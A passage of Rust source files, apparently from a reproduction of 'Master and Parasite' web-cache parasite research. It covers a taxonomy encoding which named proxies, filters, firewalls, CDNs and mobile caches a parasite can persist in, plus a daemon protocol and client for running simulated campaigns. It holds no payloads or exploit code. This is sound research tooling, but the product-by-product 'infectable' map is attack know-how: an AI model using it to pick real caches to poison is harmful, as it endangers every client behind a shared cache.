        assert!(cache.is_empty());
    }
}
