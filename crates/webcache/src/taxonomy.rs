//! The cache taxonomy of Table IV.
//!
//! The paper surveys where HTTP(S) caches sit between a victim and the web —
//! on the victim host, on the victim's network (transparent proxies, web
//! filters, firewalls, in-flight/maritime link caches) and remotely (reverse
//! proxies/CDNs, WAFs, ISP and mobile-network caches) — and records, for each
//! product class, whether caching is enabled by default, optional, absent or
//! undocumented, separately for HTTP and HTTPS. Those classifications drive
//! which caches the parasite can persist in.

use serde::{Deserialize, Serialize};
use std::fmt;

/// Where the cache sits relative to the victim.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum CacheLocation {
    /// On the victim host itself (browser caches).
    VictimHost,
    /// On the victim's network (client-side middleboxes).
    VictimNetwork,
    /// Remote: backbone and server-side caches.
    Remote,
}

impl fmt::Display for CacheLocation {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            CacheLocation::VictimHost => "Caches on Victim Host",
            CacheLocation::VictimNetwork => "Caches on Victim Network",
            CacheLocation::Remote => "Remote Caches",
        };
        f.write_str(name)
    }
}

/// The product class a cache instance belongs to (Table IV "Type" column).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord, Serialize, Deserialize)]
pub enum CacheClass {
    /// Client-internal browser cache.
    BrowserCache,
    /// Transparent proxy on the client side.
    TransparentProxy,
    /// Web filter appliance.
    WebFilter,
    /// Firewall with caching/proxy features.
    Firewall,
    /// Transport-link cache (in-flight or maritime connectivity).
    Transport,
    /// Reverse proxy / HTTP accelerator / CDN edge.
    ReverseProxy,
    /// Web application firewall.
    WebApplicationFirewall,
    /// ISP-operated forward cache.
    IspCache,
    /// Mobile network cache (LTE, 5G MEC).
    MobileNetwork,
}

impl fmt::Display for CacheClass {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            CacheClass::BrowserCache => "Browser Cache",
            CacheClass::TransparentProxy => "Transparent Proxy",
            CacheClass::WebFilter => "Web Filter",
            CacheClass::Firewall => "Firewall",
            CacheClass::Transport => "Transport",
            CacheClass::ReverseProxy => "Reverse Proxy",
            CacheClass::WebApplicationFirewall => "Web Application Firewall",
            CacheClass::IspCache => "ISP",
            CacheClass::MobileNetwork => "Mobile Network",
        };
        f.write_str(name)
    }
}

/// Whether a product caches traffic of a given scheme (the cell values of
/// Table IV).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Serialize, Deserialize)]
pub enum CachingSupport {
    /// Caching enabled by default (filled circle).
    Default,
    /// Caching available but must be enabled (half circle).
    Optional,
    /// Not supported (×).
    NotSupported,
    /// Supported by the architecture but not publicly documented /
    /// implementation dependent (‡).
    Undocumented,
}

impl CachingSupport {
    /// Returns `true` if an operator *could* have this cache caching the
    /// scheme (default, optional or undocumented-but-architecturally-there).
    pub fn possible(self) -> bool {
        !matches!(self, CachingSupport::NotSupported)
    }

    /// Returns `true` if caching happens with no operator action.
    pub fn by_default(self) -> bool {
        matches!(self, CachingSupport::Default)
    }

    /// The symbol used in the paper's table.
    pub fn symbol(self) -> &'static str {
        match self {
            CachingSupport::Default => "●",
            CachingSupport::Optional => "◐",
            CachingSupport::NotSupported => "×",
            CachingSupport::Undocumented => "‡",
        }
    }
}

/// One row of Table IV: a concrete product or deployment.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct CacheInstance {
    /// Where the cache sits.
    pub location: CacheLocation,
    /// Product class.
    pub class: CacheClass,
    /// Product / deployment name ("Squid", "Cisco Web Security Appliances", ...).
    pub name: String,
    /// Caching support for plain HTTP.
    pub http: CachingSupport,
    /// Caching support for HTTPS (after TLS interception/offload, if any).
    pub https: CachingSupport,
    /// Remark from the table, if any.
    pub comment: Option<String>,
}

impl CacheInstance {
    fn new(
        location: CacheLocation,
        class: CacheClass,
        name: &str,
        http: CachingSupport,
        https: CachingSupport,
        comment: Option<&str>,
    ) -> Self {
        CacheInstance {
            location,
            class,
            name: name.to_string(),
            http,
            https,
            comment: comment.map(str::to_string),
        }
    }

    /// Returns `true` if the parasite can persist in this cache for traffic of
    /// the given scheme (i.e. the cache can store such traffic at all).
    pub fn infectable_over(&self, https: bool) -> bool {
        if https {
            self.https.possible()
        } else {
            self.http.possible()
        }
    }

    /// Returns `true` if the cache is shared between multiple clients, so one
    /// poisoned entry propagates to every client behind it. Everything except
    /// the per-device browser caches is shared.
    pub fn shared_between_clients(&self) -> bool {
        self.class != CacheClass::BrowserCache
    }
}

/// The full Table IV, in the paper's row order.
pub fn table4_entries() -> Vec<CacheInstance> {
    use CacheClass::*;
    use CacheLocation::*;
    use CachingSupport::*;
    vec![
        CacheInstance::new(VictimHost, BrowserCache, "Desktop", Default, Default, None),
        CacheInstance::new(VictimHost, BrowserCache, "Smartphones", Default, Default, None),
        CacheInstance::new(VictimNetwork, TransparentProxy, "Squid", Default, Optional, None),
        CacheInstance::new(
            VictimNetwork,
            WebFilter,
            "Cisco Web Security Appliances",
            Default,
            Optional,
            Some("AsyncOS 9.1.1"),
        ),
        CacheInstance::new(VictimNetwork, WebFilter, "McAfee Web Gateway", Default, Optional, None),
        CacheInstance::new(VictimNetwork, WebFilter, "Citrix NetScaler", Default, Undocumented, None),
        CacheInstance::new(VictimNetwork, WebFilter, "Barracuda Web Filter", Default, NotSupported, None),
        CacheInstance::new(VictimNetwork, WebFilter, "Blue Coat ProxySG", Default, NotSupported, None),
        CacheInstance::new(
            VictimNetwork,
            Firewall,
            "Sophos UTM",
            Optional,
            Optional,
            Some("community-documented"),
        ),
        CacheInstance::new(VictimNetwork, Firewall, "Fortigate", Default, Optional, None),
        CacheInstance::new(VictimNetwork, Firewall, "Barracuda F-Series", Default, NotSupported, None),
        CacheInstance::new(VictimNetwork, Firewall, "Cisco ASA", Optional, NotSupported, Some("via redirect")),
        CacheInstance::new(VictimNetwork, Firewall, "pfSense", Optional, NotSupported, Some("via squid module")),
        CacheInstance::new(VictimNetwork, Transport, "Airplanes", Default, Undocumented, None),
        CacheInstance::new(VictimNetwork, Transport, "(Cruise) Vessels", Default, Undocumented, None),
        CacheInstance::new(Remote, ReverseProxy, "CDNs", Default, Default, None),
        CacheInstance::new(
            Remote,
            ReverseProxy,
            "Varnish HTTP Cache",
            Default,
            Optional,
            Some("when used with separate SSL offloader"),
        ),
        CacheInstance::new(
            Remote,
            ReverseProxy,
            "F5 Big-IP WebAccelerator",
            Default,
            Optional,
            Some("when used with separate SSL offloader"),
        ),
        CacheInstance::new(
            Remote,
            ReverseProxy,
            "SiteCelerate",
            Default,
            Optional,
            Some("when used with separate SSL offloader"),
        ),
        CacheInstance::new(Remote, WebApplicationFirewall, "GoDaddy WAF", Default, Undocumented, None),
        CacheInstance::new(Remote, IspCache, "CacheMara", Default, NotSupported, None),
        CacheInstance::new(Remote, MobileNetwork, "LTE Network", Undocumented, NotSupported, None),
        CacheInstance::new(Remote, MobileNetwork, "5G Networks", Undocumented, NotSupported, Some("with MEC")),
    ]
}

/// Summary statistics over the taxonomy, used by the Table IV experiment.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct TaxonomySummary {
    /// Total rows.
    pub total: usize,
    /// Rows where plain-HTTP caching is at least possible.
    pub http_infectable: usize,
    /// Rows where HTTPS caching is at least possible.
    pub https_infectable: usize,
    /// Rows that are shared between clients.
    pub shared: usize,
}

/// Computes summary statistics for a set of cache instances.
pub fn summarise(entries: &[CacheInstance]) -> TaxonomySummary {
    TaxonomySummary {
        total: entries.len(),
        http_infectable: entries.iter().filter(|e| e.infectable_over(false)).count(),
        https_infectable: entries.iter().filter(|e| e.infectable_over(true)).count(),
        shared: entries.iter().filter(|e| e.shared_between_clients()).count(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn table_has_all_rows() {
        let entries = table4_entries();
        assert_eq!(entries.len(), 23);
        // Every location section is represented.
        for location in [CacheLocation::VictimHost, CacheLocation::VictimNetwork, CacheLocation::Remote] {
            assert!(entries.iter().any(|e| e.location == location));
        }
    }

    #[test]
    fn squid_and_cdn_rows_match_the_paper() {
        let entries = table4_entries();
        let squid = entries.iter().find(|e| e.name == "Squid").unwrap();
        assert_eq!(squid.class, CacheClass::TransparentProxy);
        assert!(squid.http.by_default());
        assert_eq!(squid.https, CachingSupport::Optional);

        let cdn = entries.iter().find(|e| e.name == "CDNs").unwrap();
        assert!(cdn.http.by_default() && cdn.https.by_default());
        assert!(cdn.shared_between_clients());
    }

    #[test]
    fn https_is_harder_than_http_across_the_board() {
        let summary = summarise(&table4_entries());
        assert_eq!(summary.total, 23);
        assert!(summary.http_infectable > summary.https_infectable);
        // Every single class can cache plain HTTP in some configuration.
        assert_eq!(summary.http_infectable, summary.total);
        // Most rows are shared infrastructure (only the two browser caches are not).
        assert_eq!(summary.shared, summary.total - 2);
    }

    #[test]
    fn not_supported_cells_block_infection() {
        let entries = table4_entries();
        let bluecoat = entries.iter().find(|e| e.name == "Blue Coat ProxySG").unwrap();
        assert!(bluecoat.infectable_over(false));
        assert!(!bluecoat.infectable_over(true));
        let lte = entries.iter().find(|e| e.name == "LTE Network").unwrap();
        assert!(lte.infectable_over(false), "undocumented still counts as architecturally possible");
        assert!(!lte.infectable_over(true));
    }

    #[test]
    fn symbols_render_like_the_paper() {
        assert_eq!(CachingSupport::Default.symbol(), "●");
        assert_eq!(CachingSupport::Optional.symbol(), "◐");
        assert_eq!(CachingSupport::NotSupported.symbol(), "×");
        assert_eq!(CachingSupport::Undocumented.symbol(), "‡");
    }
}
