//! # mp-service
//!
//! The campaign service daemon for the *Master and Parasite* reproduction: a
//! long-running process that serves concurrent experiment runs over a
//! newline-delimited JSON socket (unix, optionally also TCP).
//!
//! Three modules:
//!
//! * [`protocol`] — the wire messages ([`Request`], [`Response`],
//!   [`RunOutcome`], [`RunStatus`]); one JSON object per line, documented
//!   message-by-message in `PROTOCOL.md`,
//! * [`server`] — [`Daemon`]: listeners, the worker-pool scheduler,
//!   per-run budget isolation, day streaming and cooperative cancellation,
//! * [`client`] — [`Client`]: a small blocking client used by the
//!   `paper-report` subcommands and the end-to-end tests.
//!
//! ```no_run
//! use mp_service::{Client, Daemon, Endpoint, Request, ServeOptions};
//! use parasite::experiments::{ExperimentId, RunConfig};
//!
//! let daemon = Daemon::start(ServeOptions::new("/tmp/mp.sock"))?;
//! let mut client = Client::connect(&Endpoint::Unix("/tmp/mp.sock".into()))?;
//! client.send(&Request::Submit {
//!     experiment: ExperimentId::CampaignFleet,
//!     config: Box::new(RunConfig { fleet_days: 5, ..RunConfig::default() }),
//!     checkpoint: None,
//!     watch: true,
//! })?;
//! // ... stream `accepted`, `day`... and `done` responses ...
//! client.send(&Request::Shutdown)?;
//! daemon.wait()?;
//! # Ok::<(), Box<dyn std::error::Error>>(())
//! ```
#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod client;
pub mod protocol;
pub mod server;

pub use client::{Client, ClientError, Endpoint};
pub use protocol::{Request, Response, RunOutcome, RunState, RunStatus};
pub use server::{Daemon, ServeOptions};
