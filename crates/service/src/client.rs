//! A small blocking client for the campaign service daemon.
//!
//! Wraps a unix or TCP stream in line-oriented [`Request`]/[`Response`]
//! framing; the CLI's `submit`/`status`/`watch`/`cancel`/`shutdown`
//! subcommands and the end-to-end tests are built on it.

use crate::protocol::{Request, Response};
use std::fmt;
use std::io::{self, BufRead, BufReader, Write};
use std::net::TcpStream;
use std::os::unix::net::UnixStream;
use std::path::PathBuf;

/// Where the daemon listens.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Endpoint {
    /// A unix socket path.
    Unix(PathBuf),
    /// A TCP address, e.g. `127.0.0.1:7071`.
    Tcp(String),
}

/// Why a client call failed.
#[derive(Debug)]
pub enum ClientError {
    /// The underlying socket failed.
    Io(io::Error),
    /// The daemon sent a line the protocol cannot decode.
    Protocol(String),
    /// The daemon closed the connection before replying.
    Closed,
}

impl fmt::Display for ClientError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            ClientError::Io(error) => write!(f, "socket error: {error}"),
            ClientError::Protocol(message) => write!(f, "protocol error: {message}"),
            ClientError::Closed => f.write_str("daemon closed the connection"),
        }
    }
}

impl std::error::Error for ClientError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            ClientError::Io(error) => Some(error),
            _ => None,
        }
    }
}

impl From<io::Error> for ClientError {
    fn from(error: io::Error) -> ClientError {
        ClientError::Io(error)
    }
}

/// One connection to a daemon. Requests and responses share the connection,
/// so interleave them in protocol order: send, then read until satisfied.
pub struct Client {
    reader: BufReader<Box<dyn io::Read + Send>>,
    writer: Box<dyn Write + Send>,
}

impl Client {
    /// Connects to the daemon at `endpoint`.
    pub fn connect(endpoint: &Endpoint) -> io::Result<Client> {
        match endpoint {
            Endpoint::Unix(path) => {
                let stream = UnixStream::connect(path)?;
                let writer = stream.try_clone()?;
                Ok(Client {
                    reader: BufReader::new(Box::new(stream)),
                    writer: Box::new(writer),
                })
            }
            Endpoint::Tcp(addr) => {
                let stream = TcpStream::connect(addr)?;
                let writer = stream.try_clone()?;
                Ok(Client {
                    reader: BufReader::new(Box::new(stream)),
                    writer: Box::new(writer),
                })
            }
        }
    }

    /// Writes one request line.
    pub fn send(&mut self, request: &Request) -> io::Result<()> {
        writeln!(self.writer, "{}", request.to_json())?;
        self.writer.flush()
    }

    /// Reads the next response line, blocking until one arrives.
    pub fn read_response(&mut self) -> Result<Response, ClientError> {
        let mut line = String::new();
        loop {
            line.clear();
            match self.reader.read_line(&mut line)? {
                0 => return Err(ClientError::Closed),
                _ if line.trim().is_empty() => continue,
                _ => return Response::parse_line(&line).map_err(ClientError::Protocol),
            }
        }
    }

    /// Sends a request and reads its first response.
    pub fn request(&mut self, request: &Request) -> Result<Response, ClientError> {
        self.send(request)?;
        self.read_response()
    }
}
