//! The newline-delimited JSON protocol spoken by the campaign service
//! daemon.
//!
//! One JSON object per line, in both directions, over a unix or TCP socket.
//! Requests carry an `"op"` discriminator, responses a `"type"`
//! discriminator; unknown fields are ignored so either side can grow. The
//! per-day payload of `day` messages is [`DayStats`]'s [`ToJson`] form — the
//! exact wire format the PR 5 checkpoint codec already pinned — so a
//! streamed campaign and a checkpoint file spell a day identically.
//!
//! The full message catalogue, with examples, lives in `PROTOCOL.md` at the
//! repository root.

use parasite::experiments::{DayStats, ExperimentId, RunConfig};
use parasite::json::{Json, ToJson};
use std::path::PathBuf;

/// The machine-readable `code` values the daemon attaches to
/// [`Response::Error`]. Every error the daemon itself originates carries
/// one, so scripted clients can branch without parsing prose; the full
/// catalogue (with when each fires) lives in `PROTOCOL.md`.
pub mod codes {
    /// The request was malformed, referenced an unknown run, or failed
    /// validation.
    pub const BAD_REQUEST: &str = "bad_request";
    /// The bounded submission queue is at its limit; retry after a worker
    /// drains it.
    pub const QUEUE_FULL: &str = "queue_full";
    /// The run was cooperatively cancelled before it could finish.
    pub const CANCELLED: &str = "cancelled";
    /// The run failed or panicked inside the daemon.
    pub const INTERNAL: &str = "internal";
    /// The daemon is shutting down and no longer accepts work.
    pub const UNAVAILABLE: &str = "unavailable";
}

/// A client-to-daemon request: one JSON object on one line.
#[derive(Debug, Clone, PartialEq)]
pub enum Request {
    /// Submit an experiment run. The daemon replies `accepted` with the run
    /// id, then (when `watch` is set) streams `day` messages and the final
    /// `done` on the same connection.
    Submit {
        /// Which registry experiment to run.
        experiment: ExperimentId,
        /// The full run configuration (serialised with the same
        /// omit-if-default codec the report JSON uses).
        config: Box<RunConfig>,
        /// Optional multi-day campaign checkpoint path *on the daemon's
        /// filesystem*: written after every completed day, resumed from when
        /// it already exists — the cancel/resubmit contract.
        checkpoint: Option<PathBuf>,
        /// Stream `day`/`done` messages on this connection after `accepted`.
        watch: bool,
    },
    /// Report all runs, or one run when `run` is given.
    Status {
        /// Restrict the report to this run id.
        run: Option<u64>,
    },
    /// Replay the day stream of a run from day one, then follow it live
    /// until the run finishes; ends with the `done` message.
    Watch {
        /// The run id to watch.
        run: u64,
    },
    /// Request cooperative cancellation: a multi-day campaign stops at the
    /// next day boundary, leaving its checkpoint resumable.
    Cancel {
        /// The run id to cancel.
        run: u64,
    },
    /// Cancel every run, drain the queue, and exit the daemon.
    Shutdown,
    /// Execute one campaign shard synchronously on this connection: the
    /// daemon runs APs `[first_ap, first_ap + aps)` of a multi-day
    /// `campaign_fleet` described by `config` and replies with a single
    /// `shard_result` message carrying the partial-checkpoint document.
    /// Mergeable with sibling shards via the core checkpoint `merge()`.
    ShardSubmit {
        /// The full run configuration (worker count and shard hints in it
        /// are scheduling-only and never affect the outcome).
        config: Box<RunConfig>,
        /// First access point of the shard's contiguous AP range.
        first_ap: usize,
        /// Number of access points in the shard.
        aps: usize,
    },
}

impl Request {
    /// Serialises the request to its wire object.
    pub fn to_json(&self) -> Json {
        match self {
            Request::Submit { experiment, config, checkpoint, watch } => {
                let mut pairs = vec![
                    ("op", "submit".to_json()),
                    ("experiment", experiment.as_str().to_json()),
                    ("config", config.to_json()),
                ];
                if let Some(path) = checkpoint {
                    pairs.push(("checkpoint", path.display().to_string().to_json()));
                }
                if *watch {
                    pairs.push(("watch", true.to_json()));
                }
                Json::obj(pairs)
            }
            Request::Status { run } => match run {
                Some(run) => Json::obj([("op", "status".to_json()), ("run", run.to_json())]),
                None => Json::obj([("op", "status".to_json())]),
            },
            Request::Watch { run } => {
                Json::obj([("op", "watch".to_json()), ("run", run.to_json())])
            }
            Request::Cancel { run } => {
                Json::obj([("op", "cancel".to_json()), ("run", run.to_json())])
            }
            Request::Shutdown => Json::obj([("op", "shutdown".to_json())]),
            Request::ShardSubmit { config, first_ap, aps } => Json::obj([
                ("op", "shard_submit".to_json()),
                ("config", config.to_json()),
                ("first_ap", (*first_ap as u64).to_json()),
                ("aps", (*aps as u64).to_json()),
            ]),
        }
    }

    /// Decodes a request from its wire object.
    pub fn from_json(json: &Json) -> Result<Request, String> {
        let op = json
            .get("op")
            .and_then(Json::as_str)
            .ok_or_else(|| "request is missing the \"op\" field".to_string())?;
        let run_of = |json: &Json| {
            json.get("run")
                .and_then(Json::as_u64)
                .ok_or_else(|| format!("{op:?} requires a numeric \"run\" field"))
        };
        match op {
            "submit" => {
                let experiment = json
                    .get("experiment")
                    .and_then(Json::as_str)
                    .ok_or_else(|| "submit requires an \"experiment\" id".to_string())?
                    .parse::<ExperimentId>()
                    .map_err(|error| error.to_string())?;
                let config = match json.get("config") {
                    Some(value) => RunConfig::from_json(value)
                        .ok_or_else(|| "\"config\" is not a run configuration object".to_string())?,
                    None => RunConfig::default(),
                };
                let checkpoint = match json.get("checkpoint") {
                    Some(value) => Some(PathBuf::from(value.as_str().ok_or_else(|| {
                        "\"checkpoint\" must be a path string".to_string()
                    })?)),
                    None => None,
                };
                let watch = json.get("watch").and_then(Json::as_bool).unwrap_or(false);
                Ok(Request::Submit { experiment, config: Box::new(config), checkpoint, watch })
            }
            "status" => Ok(Request::Status { run: json.get("run").and_then(Json::as_u64) }),
            "watch" => Ok(Request::Watch { run: run_of(json)? }),
            "cancel" => Ok(Request::Cancel { run: run_of(json)? }),
            "shutdown" => Ok(Request::Shutdown),
            "shard_submit" => {
                let config = match json.get("config") {
                    Some(value) => RunConfig::from_json(value)
                        .ok_or_else(|| "\"config\" is not a run configuration object".to_string())?,
                    None => RunConfig::default(),
                };
                let range_field = |key: &str| {
                    json.get(key)
                        .and_then(Json::as_u64)
                        .ok_or_else(|| format!("shard_submit requires a numeric {key:?} field"))
                };
                Ok(Request::ShardSubmit {
                    config: Box::new(config),
                    first_ap: range_field("first_ap")? as usize,
                    aps: range_field("aps")? as usize,
                })
            }
            other => Err(format!("unknown op {other:?}")),
        }
    }

    /// Parses one wire line into a request.
    pub fn parse_line(line: &str) -> Result<Request, String> {
        let json = Json::parse(line)
            .map_err(|error| format!("request line is not valid JSON: {error}"))?;
        Request::from_json(&json)
    }
}

/// Where a run currently sits in the daemon's scheduler.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum RunState {
    /// Accepted, waiting for a worker.
    #[default]
    Queued,
    /// Executing on a worker thread.
    Running,
    /// Finished — see the run's [`RunOutcome`].
    Done,
}

impl RunState {
    /// The wire name of the state.
    pub fn as_str(&self) -> &'static str {
        match self {
            RunState::Queued => "queued",
            RunState::Running => "running",
            RunState::Done => "done",
        }
    }

    fn from_str(text: &str) -> Result<RunState, String> {
        match text {
            "queued" => Ok(RunState::Queued),
            "running" => Ok(RunState::Running),
            "done" => Ok(RunState::Done),
            other => Err(format!("unknown run state {other:?}")),
        }
    }
}

/// How a finished run ended.
#[derive(Debug, Clone, PartialEq)]
pub enum RunOutcome {
    /// The run completed; `artifact` is the full artifact JSON — identical
    /// bytes to the corresponding entry of a batch `paper-report --json`.
    Ok {
        /// The artifact document.
        artifact: Json,
    },
    /// The run was cancelled at a day boundary; `days_completed` days are
    /// durable in the checkpoint (when one was configured).
    Cancelled {
        /// Completed (and checkpointed) days at the stop.
        days_completed: u32,
    },
    /// The run failed with the rendered [`ExperimentError`] message.
    ///
    /// [`ExperimentError`]: parasite::experiments::ExperimentError
    Failed {
        /// The error message.
        message: String,
    },
}

impl RunOutcome {
    /// The wire discriminator: `"ok"`, `"cancelled"` or `"failed"`.
    pub fn kind(&self) -> &'static str {
        match self {
            RunOutcome::Ok { .. } => "ok",
            RunOutcome::Cancelled { .. } => "cancelled",
            RunOutcome::Failed { .. } => "failed",
        }
    }

    /// Serialises the outcome object carried by `done` messages.
    pub fn to_json(&self) -> Json {
        match self {
            RunOutcome::Ok { artifact } => {
                Json::obj([("result", "ok".to_json()), ("artifact", artifact.clone())])
            }
            RunOutcome::Cancelled { days_completed } => Json::obj([
                ("result", "cancelled".to_json()),
                ("days_completed", days_completed.to_json()),
            ]),
            RunOutcome::Failed { message } => {
                Json::obj([("result", "failed".to_json()), ("message", message.to_json())])
            }
        }
    }

    /// Decodes an outcome object.
    pub fn from_json(json: &Json) -> Result<RunOutcome, String> {
        match json.get("result").and_then(Json::as_str) {
            Some("ok") => Ok(RunOutcome::Ok {
                artifact: json
                    .get("artifact")
                    .cloned()
                    .ok_or_else(|| "ok outcome is missing \"artifact\"".to_string())?,
            }),
            Some("cancelled") => Ok(RunOutcome::Cancelled {
                days_completed: json
                    .get("days_completed")
                    .and_then(Json::as_u64)
                    .ok_or_else(|| "cancelled outcome is missing \"days_completed\"".to_string())?
                    as u32,
            }),
            Some("failed") => Ok(RunOutcome::Failed {
                message: json
                    .get("message")
                    .and_then(Json::as_str)
                    .ok_or_else(|| "failed outcome is missing \"message\"".to_string())?
                    .to_string(),
            }),
            _ => Err("outcome is missing a valid \"result\" field".to_string()),
        }
    }
}

/// One run's row in a `status` response.
#[derive(Debug, Clone, PartialEq)]
pub struct RunStatus {
    /// The run id.
    pub run: u64,
    /// The experiment the run executes.
    pub experiment: ExperimentId,
    /// Scheduler state.
    pub state: RunState,
    /// Campaign days completed (and streamed) so far.
    pub days: u32,
    /// How the run ended, when `state` is `done`.
    pub outcome: Option<String>,
}

impl RunStatus {
    fn to_json(&self) -> Json {
        let mut pairs = vec![
            ("run", self.run.to_json()),
            ("experiment", self.experiment.as_str().to_json()),
            ("state", self.state.as_str().to_json()),
            ("days", self.days.to_json()),
        ];
        if let Some(outcome) = &self.outcome {
            pairs.push(("outcome", outcome.to_json()));
        }
        Json::obj(pairs)
    }

    fn from_json(json: &Json) -> Result<RunStatus, String> {
        let field = |key: &str| {
            json.get(key)
                .and_then(Json::as_u64)
                .ok_or_else(|| format!("status row is missing {key:?}"))
        };
        Ok(RunStatus {
            run: field("run")?,
            experiment: json
                .get("experiment")
                .and_then(Json::as_str)
                .ok_or_else(|| "status row is missing \"experiment\"".to_string())?
                .parse::<ExperimentId>()
                .map_err(|error| error.to_string())?,
            state: RunState::from_str(
                json.get("state")
                    .and_then(Json::as_str)
                    .ok_or_else(|| "status row is missing \"state\"".to_string())?,
            )?,
            days: field("days")? as u32,
            outcome: json.get("outcome").and_then(Json::as_str).map(str::to_string),
        })
    }
}

/// A daemon-to-client response: one JSON object on one line.
#[derive(Debug, Clone, PartialEq)]
pub enum Response {
    /// A submission was accepted and queued under `run`.
    Accepted {
        /// The assigned run id.
        run: u64,
        /// The experiment the run will execute.
        experiment: ExperimentId,
    },
    /// One completed campaign day of a watched run.
    Day {
        /// The run the day belongs to.
        run: u64,
        /// The day's statistics (the checkpoint codec's wire form).
        stats: DayStats,
    },
    /// The scheduler table.
    Status {
        /// One row per known run.
        runs: Vec<RunStatus>,
    },
    /// Cancellation was requested; the run stops at its next day boundary
    /// and its watchers receive a `cancelled` outcome.
    Cancelling {
        /// The run being cancelled.
        run: u64,
    },
    /// A watched run finished.
    Done {
        /// The finished run.
        run: u64,
        /// How it ended.
        outcome: RunOutcome,
    },
    /// The daemon is cancelling `active_runs` unfinished runs and exiting.
    ShuttingDown {
        /// Runs that were still queued or running.
        active_runs: u64,
    },
    /// The finished shard of a `shard_submit` request.
    ShardResult {
        /// The run id the shard executed under.
        run: u64,
        /// The partial-checkpoint document for the shard — the same wire
        /// form `--fleet-checkpoint` files and the `distribute` coordinator
        /// use, mergeable with sibling shards.
        outcome: Json,
    },
    /// The request could not be served.
    Error {
        /// What went wrong.
        message: String,
        /// Optional machine-readable error code (e.g. `"queue_full"`);
        /// omitted from the wire form when absent.
        code: Option<String>,
    },
}

impl Response {
    /// Serialises the response to its wire object.
    pub fn to_json(&self) -> Json {
        match self {
            Response::Accepted { run, experiment } => Json::obj([
                ("type", "accepted".to_json()),
                ("run", run.to_json()),
                ("experiment", experiment.as_str().to_json()),
            ]),
            Response::Day { run, stats } => Json::obj([
                ("type", "day".to_json()),
                ("run", run.to_json()),
                ("stats", stats.to_json()),
            ]),
            Response::Status { runs } => Json::obj([
                ("type", "status".to_json()),
                ("runs", Json::Arr(runs.iter().map(RunStatus::to_json).collect())),
            ]),
            Response::Cancelling { run } => {
                Json::obj([("type", "cancelling".to_json()), ("run", run.to_json())])
            }
            Response::Done { run, outcome } => Json::obj([
                ("type", "done".to_json()),
                ("run", run.to_json()),
                ("outcome", outcome.to_json()),
            ]),
            Response::ShuttingDown { active_runs } => Json::obj([
                ("type", "shutting_down".to_json()),
                ("active_runs", active_runs.to_json()),
            ]),
            Response::ShardResult { run, outcome } => Json::obj([
                ("type", "shard_result".to_json()),
                ("run", run.to_json()),
                ("outcome", outcome.clone()),
            ]),
            Response::Error { message, code } => {
                let mut pairs =
                    vec![("type", "error".to_json()), ("message", message.to_json())];
                if let Some(code) = code {
                    pairs.push(("code", code.to_json()));
                }
                Json::obj(pairs)
            }
        }
    }

    /// Decodes a response from its wire object.
    pub fn from_json(json: &Json) -> Result<Response, String> {
        let kind = json
            .get("type")
            .and_then(Json::as_str)
            .ok_or_else(|| "response is missing the \"type\" field".to_string())?;
        let run_of = |json: &Json| {
            json.get("run")
                .and_then(Json::as_u64)
                .ok_or_else(|| format!("{kind:?} response is missing \"run\""))
        };
        match kind {
            "accepted" => Ok(Response::Accepted {
                run: run_of(json)?,
                experiment: json
                    .get("experiment")
                    .and_then(Json::as_str)
                    .ok_or_else(|| "accepted response is missing \"experiment\"".to_string())?
                    .parse::<ExperimentId>()
                    .map_err(|error| error.to_string())?,
            }),
            "day" => Ok(Response::Day {
                run: run_of(json)?,
                stats: json
                    .get("stats")
                    .and_then(DayStats::from_json)
                    .ok_or_else(|| "day response carries no valid \"stats\"".to_string())?,
            }),
            "status" => Ok(Response::Status {
                runs: json
                    .get("runs")
                    .and_then(Json::as_array)
                    .ok_or_else(|| "status response is missing \"runs\"".to_string())?
                    .iter()
                    .map(RunStatus::from_json)
                    .collect::<Result<Vec<RunStatus>, String>>()?,
            }),
            "cancelling" => Ok(Response::Cancelling { run: run_of(json)? }),
            "done" => Ok(Response::Done {
                run: run_of(json)?,
                outcome: RunOutcome::from_json(
                    json.get("outcome")
                        .ok_or_else(|| "done response is missing \"outcome\"".to_string())?,
                )?,
            }),
            "shutting_down" => Ok(Response::ShuttingDown {
                active_runs: json.get("active_runs").and_then(Json::as_u64).unwrap_or(0),
            }),
            "shard_result" => Ok(Response::ShardResult {
                run: run_of(json)?,
                outcome: json
                    .get("outcome")
                    .cloned()
                    .ok_or_else(|| "shard_result response is missing \"outcome\"".to_string())?,
            }),
            "error" => Ok(Response::Error {
                message: json
                    .get("message")
                    .and_then(Json::as_str)
                    .unwrap_or("unspecified error")
                    .to_string(),
                code: json.get("code").and_then(Json::as_str).map(str::to_string),
            }),
            other => Err(format!("unknown response type {other:?}")),
        }
    }

    /// Parses one wire line into a response.
    pub fn parse_line(line: &str) -> Result<Response, String> {
        let json = Json::parse(line)
            .map_err(|error| format!("response line is not valid JSON: {error}"))?;
        Response::from_json(&json)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn requests_round_trip_through_the_wire_form() {
        let submissions = [
            Request::Submit {
                experiment: ExperimentId::CampaignFleet,
                config: Box::new(RunConfig {
                    seed: 9,
                    fleet_clients: 500,
                    fleet_days: 3,
                    fleet_churn: 0.25,
                    ..RunConfig::default()
                }),
                checkpoint: Some(PathBuf::from("/tmp/run.ckpt.json")),
                watch: true,
            },
            Request::Submit {
                experiment: ExperimentId::Fig4,
                config: Box::new(RunConfig::default()),
                checkpoint: None,
                watch: false,
            },
            Request::Status { run: None },
            Request::Status { run: Some(7) },
            Request::Watch { run: 1 },
            Request::Cancel { run: 2 },
            Request::Shutdown,
            Request::ShardSubmit {
                config: Box::new(RunConfig {
                    seed: 11,
                    fleet_clients: 4_000,
                    fleet_aps: 16,
